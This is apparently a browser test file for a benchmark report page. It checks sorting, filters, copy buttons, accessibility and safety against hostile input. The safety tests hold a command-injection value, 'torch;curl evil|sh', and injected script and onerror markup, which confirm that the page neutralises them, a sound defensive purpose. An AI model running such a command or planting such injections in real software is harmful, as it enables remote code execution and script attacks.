"""Tests of the report in a real browser: contents, controls and safety.

test_opening.py has the only browser check that `make test` runs.
"""

import re
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect

from tests.rendering.report.hostile_records import HOSTILE_TEXTS, poison_record
from tests.sample_records import vary_record
from xfbench.host.machine import describe_machine
from xfbench.rendering.report import content, page

pytestmark = pytest.mark.deep
EXAMPLE = Path(__file__).parents[3] / "docs/example/report.html"


def column(page, name, table=0):
    """Return the texts of a column of a leaderboard, from top to bottom."""
    return page.evaluate(
        """([table, name]) => {
             const board = document.querySelectorAll("table.board")[table];
             const heads = [...board.tHead.rows[0].cells].map(head => head.textContent.trim());
             const place = heads.indexOf(name);
             return [...board.tBodies].map(body => body.rows[0].cells[place].textContent.trim());
           }""",
        [table, name],
    )


def header(page, name, table=0):
    return (
        page.locator("table.board > thead").nth(table).get_by_role("button", name=name, exact=True)
    )


@pytest.mark.parametrize("keys", [None, "Enter", "Space"])
def test_a_column_sorts_both_ways_by_mouse_and_keyboard(open_board, keys):
    report_page = open_board()
    button = header(report_page, "images/s")

    def press():
        if keys:
            button.focus()
            report_page.keyboard.press(keys)
        else:
            button.click()

    before = column(report_page, "of best")
    press()
    assert column(report_page, "of best") == before[::-1]
    sorted_by = report_page.locator("table.board").first.locator("th[aria-sort]")
    assert sorted_by.count() == 1
    assert sorted_by.get_attribute("aria-sort") == "ascending"
    press()
    assert column(report_page, "of best") == before
    assert sorted_by.get_attribute("aria-sort") == "descending"


def test_missing_values_sort_last_both_ways(open_board):
    report_page = open_board()
    header(report_page, "framework").click()
    assert column(report_page, "framework") == ["caffe"] * 3 + ["torch"] * 2
    for _ in range(2):
        header(report_page, "images/s", table=1).click()
        assert column(report_page, "framework", table=1) == ["mxnet", "tensorflow"]


def test_filters_hide_rows_and_count_the_rest(open_board):
    report_page = open_board()
    count = report_page.locator("form").get_by_role("status")
    assert count.inner_text() == "7 of 7 rows"
    report_page.get_by_label("Find").fill("caffe mkl")
    assert count.inner_text() == "1 of 7 rows"
    assert report_page.locator("table.board > tbody:visible").count() == 1
    assert not report_page.get_by_text("Not ranked: these rows").is_visible()
    report_page.get_by_role("button", name="Show all").click()
    report_page.get_by_text("7 of 7 rows").wait_for()
    report_page.get_by_role("combobox", name="Framework").select_option("torch")
    assert count.inner_text() == "2 of 7 rows"
    report_page.get_by_role("combobox", name="Framework").select_option("all")
    report_page.get_by_label("ranked only").check()
    assert count.inner_text() == "5 of 7 rows"
    report_page.get_by_label("Find").fill("<nothing like this>")
    assert count.inner_text() == "0 of 7 rows"
    assert not report_page.locator(".one").first.is_visible()


@pytest.mark.parametrize("keys", [None, "Enter"])
def test_a_row_opens_to_records_certificate_and_command(open_board, board, keys):
    records, certificates = board
    report_page = open_board()
    button = report_page.locator("table.board > tbody th > button").first
    details = report_page.locator("table.board tr.d").first
    assert button.get_attribute("aria-expanded") == "false" and not details.is_visible()
    if keys:
        button.focus()
        report_page.keyboard.press(keys)
    else:
        button.click()
    assert button.get_attribute("aria-expanded") == "true"
    text = details.inner_text()
    cell_records = [
        record
        for record in records
        if record.request.framework == "torch" and record.request.threads == 2
    ]
    for record in cell_records:
        assert record.id[7:23] in text
    assert re.search("quiet|used .* cores|hypervisor|swap|throttled processes", text)
    assert "xfbench run" in text and "--threads 2" in text
    link = details.get_by_role("link", name=cell_records[0].certificate[7:23])
    link.click()
    assert report_page.url.endswith(link.get_attribute("href"))
    assert report_page.locator(link.get_attribute("href")).is_visible()
    button.click()
    assert not details.is_visible()


def paste_into(page):
    """Return the text in the clipboard, as the browser pastes it."""
    page.evaluate("document.body.append(document.createElement('textarea'))")
    page.locator("textarea").last.focus()
    page.keyboard.press("Control+V")
    return page.locator("textarea").last.input_value()


@pytest.mark.parametrize("has_clipboard", [True, False])
@pytest.mark.parametrize("keys", [None, "Enter", "Space"])
def test_a_button_copies_the_command_and_says_so(open_board, keys, has_clipboard):
    report_page = open_board()
    if not has_clipboard:  # like a page that a server sends without encryption
        report_page.evaluate("Object.defineProperty(navigator, 'clipboard', {value: undefined})")
    report_page.keyboard.press("Control+A")
    report_page.keyboard.press("Control+C")
    report_page.clock.install()
    command = report_page.locator("article code.command")
    text = command.text_content().strip()
    assert text.startswith("xfbench run --framework torch")
    button = report_page.get_by_role("article").get_by_role("button", name=f"Copy {text}")
    message = report_page.get_by_role("article").get_by_role("status")
    assert button.inner_text() == "Copy" and message.inner_text() == ""
    if keys:
        command.focus()
        report_page.keyboard.press("Tab")
        report_page.keyboard.press(keys)
    else:
        button.click()
    expect(message).to_have_text("Copied")
    report_page.clock.fast_forward(3000)
    assert message.inner_text() == ""
    assert paste_into(report_page) == text


def test_each_command_has_its_copy_button(open_board):
    report_page = open_board()
    report_page.locator("table.board > tbody th > button").nth(1).click()
    for command in report_page.locator("code.command:visible").all():
        text = command.text_content().strip()
        box = command.locator("xpath=..")
        box.get_by_role("button", name=f"Copy {text}", exact=True).click()
        expect(box.get_by_role("status")).to_have_text("Copied")
        assert paste_into(report_page) == text
    assert report_page.locator("tbody.open").count() == 1  # the button does not close its row
    report_page.emulate_media(media="print")
    assert report_page.locator(".copyable button:visible").count() == 0


def test_a_command_that_the_browser_does_not_copy_is_selected(open_board):
    report_page = open_board()
    report_page.evaluate("Object.defineProperty(navigator, 'clipboard', {value: undefined})")
    report_page.evaluate("document.execCommand = () => false")
    article = report_page.get_by_role("article")
    article.get_by_role("button", name="Copy xfbench run").click()
    expect(article.get_by_role("status")).to_have_text("Selected")
    command = article.locator("code.command").text_content().strip()
    assert report_page.evaluate("getSelection().toString()").strip() == command


def test_the_summary_leads_to_its_row_despite_a_filter(open_board):
    report_page = open_board()
    report_page.get_by_label("Find").fill("caffe")
    row = report_page.locator("table.board > tbody").first
    assert not row.is_visible()
    report_page.get_by_role("link", name="records and conditions").first.click()
    assert row.locator("tr.d").is_visible()
    assert report_page.evaluate("document.activeElement.innerText") == "torch"


def test_an_unranked_row_shows_its_reason(open_board):
    report_page = open_board()
    reasons = column(report_page, "why", table=1)
    assert "no equality certificate" in reasons[0]
    assert reasons[1] == "crashed: rank 0 was killed"
    assert "mxnet" not in report_page.get_by_role("article").inner_text()


def test_print_shows_all_details_and_no_controls(open_board, board):
    records, _ = board
    report_page = open_board(color_scheme="dark")
    report_page.emulate_media(media="print")
    assert report_page.locator("table.board > tbody:visible").count() == 7
    for record in records:
        assert report_page.get_by_text(record.id[7:23]).first.is_visible()
    assert report_page.locator("tr.d code.command:visible").count() == 7
    assert report_page.locator("figure > svg:visible").count() >= 2
    for hidden in ("nav", "form.filter", ".skip", "summary"):
        assert not report_page.locator(hidden).first.is_visible()
    assert report_page.evaluate("getComputedStyle(document.querySelector('.card')).color") == (
        "rgb(27, 31, 36)"
    )


@pytest.mark.parametrize("hostile", [False, True])
def test_page_fits_the_width_of_a_phone(open_report, board, hostile):
    records, certificates = board
    if hostile:
        long = {"framework": "w" * 10**6, "kernel": "w" * 10**6}
        requests = [long, {**long, "workload": "w" * 10**6}]
        records = [
            *records,
            *(vary_record(records[0], request=request, seconds=0.1) for request in requests),
        ]
    report_page = open_report(records, certificates, viewport={"width": 360, "height": 740})
    for button in report_page.locator("table.board > tbody th > button").all():
        button.click()
    for summary in report_page.locator("summary").all():
        summary.click()
    assert report_page.evaluate("document.documentElement.scrollWidth") <= 360


@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 390)])
def test_example_report_with_all_parts_open_is_accessible(open_file, scheme, width):
    """axe-core checks contrast, names, roles and the order of headings."""
    report_page = open_file(EXAMPLE, color_scheme=scheme, viewport={"width": width, "height": 844})
    report_page.evaluate("document.querySelectorAll('details').forEach(part => part.open = true)")
    report_page.locator("table.board > tbody th > button").first.click()
    is_dark = report_page.evaluate("matchMedia('(prefers-color-scheme: dark)').matches")
    assert is_dark == (scheme == "dark")
    results = Axe().run(report_page)
    assert results.violations_count == 0, results.generate_report()


def test_example_report_is_closed_at_first(open_file):
    report_page = open_file(EXAMPLE)
    assert report_page.locator("details[open]").count() == 0
    assert report_page.locator("tr.d:visible").count() == 0
    assert report_page.locator(".study > details").count() > 0


@pytest.mark.parametrize("width", [1200, 1280, 1600, 1920])
def test_the_index_is_at_the_side_and_the_page_fits(open_file, width):
    report_page = open_file(EXAMPLE, viewport={"width": width, "height": 800})
    index, main = (report_page.locator(name).bounding_box() for name in ("nav", "main"))
    assert index["x"] >= 0 and index["x"] + index["width"] <= main["x"]
    report_page.evaluate("document.querySelectorAll('details').forEach(part => part.open = true)")
    report_page.locator("table.board > tbody th > button").first.click()
    assert report_page.locator("nav").bounding_box()["y"] < 30  # it stays when the page scrolls
    assert report_page.evaluate("document.documentElement.scrollWidth") == width
    for part in report_page.locator("tr.d .copyable button:visible").all():
        assert part.bounding_box()["x"] + part.bounding_box()["width"] < width


def test_on_a_narrow_screen_the_index_is_above_the_tables(open_file):
    report_page = open_file(EXAMPLE, viewport={"width": 1199, "height": 800})
    index, main = (report_page.locator(name).bounding_box() for name in ("nav", "main"))
    assert index["y"] + index["height"] <= main["y"]


def test_hostile_strings_in_any_field_do_nothing(open_report, board):
    records, certificates = board
    hostile_records = []
    for number, text in enumerate(HOSTILE_TEXTS):
        hostile_record = poison_record(records[0], text)
        failed = {"status": "failed", "reason": text, "id": f"sha256:{number}{text}"}
        hostile_records += [
            hostile_record,
            poison_record(records[-1], text).model_copy(update=failed),
        ]
    hostile_certificates = {text: text for text in HOSTILE_TEXTS}
    report_page = open_report(
        [*records, *hostile_records], {**certificates, **hostile_certificates}
    )
    for button in report_page.locator("table.board > tbody th > button").all():
        button.click()
    header(report_page, "framework").click()
    for text in HOSTILE_TEXTS:
        report_page.get_by_label("Find").fill(text[:50])
    report_page.get_by_label("Find").fill("")
    assert report_page.evaluate("window.owned") is None
    assert report_page.locator("script").count() == report_page.locator("style").count() == 1
    assert (
        report_page.locator("img, iframe, object, embed, base, link, a:not([href^='#'])").count()
        == 0
    )
    assert (
        report_page.evaluate(
            """() => [...document.querySelectorAll("*")].some(
             e => [...e.attributes].some(a => a.name.startsWith("on") || a.name === "style"))"""
        )
        is False
    )
    page_text = report_page.evaluate("document.body.textContent")
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]", page_text
    )
    assert "{{ 7 * 7 }}" in page_text
    assert len(report_page.content()) < 1_500_000


def test_a_hostile_string_can_still_be_read(open_report, board):
    records, certificates = board
    report_page = open_report(
        [*records, poison_record(records[0], "<b>\u202eevil\x00</b>")], certificates
    )
    assert "<b>\\u202eevil\\x00</b>" in report_page.evaluate("document.body.textContent")


def test_name_unsafe_for_a_shell_has_no_command(open_report, board):
    records, certificates = board
    hostile_record = vary_record(
        records[0], request={"framework": "torch;curl evil|sh"}, seconds=0.001
    )
    report_page = open_report([hostile_record], certificates)
    assert "No xfbench command repeats this" in report_page.get_by_role("article").inner_text()
    assert "evil|sh" not in " ".join(report_page.locator("code").all_text_contents())


def test_the_content_policy_stops_injected_scripts(chromium, board, tmp_path):
    text = page.render_report(*board).replace(
        "</main>", "<script>window.owned=1</script><img src=x onerror='window.owned=1'></main>"
    )
    file = tmp_path / "report.html"
    file.write_text(text, encoding="utf-8")
    report_page = chromium.new_page()
    requested_urls = []
    report_page.on("requestfinished", lambda request: requested_urls.append(request.url))
    report_page.goto(file.as_uri())
    assert report_page.evaluate("window.owned") is None
    assert requested_urls == [file.as_uri()]
    report_page.close()


def test_tables_figures_and_links_are_labelled(open_board):
    report_page = open_board()
    assert report_page.locator("table:not(:has(> caption))").count() == 0
    figures = report_page.locator("figure > svg")
    assert figures.count() > 2
    for figure in figures.all():
        title, text = (
            report_page.locator(f"[id='{element_id}']")
            for element_id in figure.get_attribute("aria-labelledby").split()
        )
        assert title.text_content() and len(text.text_content()) > 20
    assert report_page.locator("figure:not(:has(details table))").count() == 0
    ids_script = "() => [...document.querySelectorAll('[id]')].map(e => e.id)"
    ids = report_page.evaluate(ids_script)
    assert len(ids) == len(set(ids))
    for target in report_page.locator("a").all():
        assert report_page.locator(f"[id='{target.get_attribute('href')[1:]}']").count() == 1


def test_the_first_tab_stop_skips_to_the_leaderboards(open_board):
    report_page = open_board()
    report_page.keyboard.press("Tab")
    skip = report_page.get_by_role("link", name="Skip to the leaderboards")
    assert skip.evaluate("e => e === document.activeElement && e.getBoundingClientRect().x >= 0")
    report_page.keyboard.press("Enter")
    report_page.wait_for_function("location.hash === '#leaderboards'")
    report_page.keyboard.press("Tab")
    assert report_page.evaluate("document.activeElement.name") == "words"
    assert report_page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"


def test_without_scripts_all_details_are_shown(open_board):
    report_page = open_board(java_script_enabled=False)
    assert report_page.locator("tr.d").first.is_visible()
    assert not report_page.locator("form.filter").is_visible()
    assert report_page.get_by_role("button", name="Copy").count() == 0


def test_two_thousand_cells_are_under_five_megabytes_and_sort(open_report, measured):
    records = [
        vary_record(
            measured[0],
            request={"threads": threads, "framework": name},
            seconds=0.001 * (1 + threads % 97),
            machine=describe_machine(),
        )
        for name in ("caffe", "mxnet", "tensorflow", "torch")
        for threads in range(1, 501)
    ]
    report_page = open_report(records)
    assert len(report_page.content().encode()) < 5e6
    assert report_page.locator("form output").inner_text() == "2,000 of 2,000 rows"
    report_page.locator("table.board > thead button", has_text="threads").click()
    assert [cell_text.split()[0] for cell_text in column(report_page, "threads")[:5]] == [
        "1",
        "1",
        "1",
        "1",
        "2",
    ]
    rows = report_page.locator("table.board > tbody:visible")
    assert rows.count() == content.AT_ONCE
    assert rows.first.locator("td[data-c=threads]").inner_text() == "1"
    find = report_page.locator("input[name=words]")
    find.fill("torch")
    assert report_page.locator("form output").inner_text() == "500 of 2,000 rows"
    assert rows.count() == content.AT_ONCE
    assert rows.first.locator("th").inner_text() == "torch"
    find.fill("")
    report_page.locator(".rest button").click()
    assert rows.count() == 2000
    report_page.reload()
    report_page.emulate_media(media="print")
    assert rows.count() == 2000


def test_empty_report_says_it_has_no_record(open_report):
    assert "There are no records" in open_report([]).inner_text("main")
